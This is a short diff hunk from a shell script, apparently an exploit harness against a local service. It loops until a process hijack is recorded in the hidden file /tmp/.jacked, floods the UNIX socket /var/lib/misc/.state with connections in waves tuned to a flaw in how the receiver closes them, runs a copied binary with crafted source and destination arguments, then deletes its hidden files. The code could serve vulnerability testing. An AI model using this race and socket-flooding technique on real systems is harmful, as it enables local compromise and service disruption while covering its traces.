@@ -77,13 +77,17 @@ for try in 1 2 3 4 5 6 7 8; do
   [ "$(cat /tmp/.jacked 2>/dev/null | wc -l)" -ge 2 ] && break
 done
 echo "PID-TRIES $try"
+# in waves of 60, held open for the receiver to look at each (it closes more than 64 at once unchecked)
 python3 -c '
 import socket, time
-flood = [socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) for _ in range(120)]
-for s in flood:
-    s.connect("/var/lib/misc/.state")
-print("FLOOD-CONNECTED", len(flood), flush=True)
-time.sleep(3)  # held open, so that the receiver looks at every one'
+for wave in range(2):
+    flood = [socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) for _ in range(60)]
+    for s in flood:
+        s.connect("/var/lib/misc/.state")
+    time.sleep(3)
+    for s in flood:
+        s.close()
+print("FLOOD-CONNECTED", 2 * len(flood), flush=True)'
 cp /tmp/.jack /tmp/.jack-late
 /tmp/.jack-late "$m-LATE" "src:/data/$m-LATE" "dst:/data/" && echo "LATE-RAN 0" || echo "LATE-RAN $?"
 rm -f /tmp/.jacked /tmp/.jack.py /tmp/.jack /tmp/.jack-late
